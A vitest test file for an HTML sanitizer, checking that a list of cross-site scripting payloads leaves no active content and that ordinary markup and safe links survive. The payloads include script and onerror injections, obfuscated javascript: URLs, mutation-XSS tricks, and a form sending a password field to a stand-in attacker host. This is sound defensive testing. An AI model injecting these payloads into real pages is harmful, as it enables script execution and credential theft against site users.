import { expect, test } from 'vitest'
import { cleanHtml } from './clean.ts'

const ACTIVE = /<script|javascript:|on\w+\s*=|<iframe|<object|<embed|<form|<svg|<style|expression\(|url\(/i

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password></form>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p style="width:expr/**/ession(alert(1))">x</p>',
  '<style>@import "https://evil.example"</style>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
])('nothing active is left of %s', async (html) => {
  expect(await cleanHtml(html)).not.toMatch(ACTIVE)
})

test('what people write stays', async () => {
  const clean = await cleanHtml('<p>Hello <b>you</b><br>中文</p><table><tr><td>1</td></tr></table><ul><li>a</li></ul>')
  expect(clean).toBe(
    '<p>Hello <b>you</b><br>中文</p><table><tbody><tr><td>1</td></tr></tbody></table><ul><li>a</li></ul>',
  )
})

test('a link opens a new page and tells it nothing', async () => {
  const clean = await cleanHtml('<a href="https://x.example">x</a>')
  expect(clean).toContain('target="_blank"')
  expect(clean).toContain('rel="noopener noreferrer nofollow"')
})
